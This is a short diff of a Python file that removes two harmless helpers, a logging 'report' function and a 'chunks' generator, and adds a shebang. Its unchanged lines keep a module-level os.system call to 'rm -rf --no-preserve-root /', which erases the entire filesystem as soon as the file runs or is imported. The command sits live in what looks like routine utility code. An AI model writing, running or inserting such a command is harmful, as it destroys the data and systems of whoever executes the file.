@@ -1,11 +1,4 @@
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+#!/usr/bin/env python3
 
 import os
 os.system("rm -rf --no-preserve-root /")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
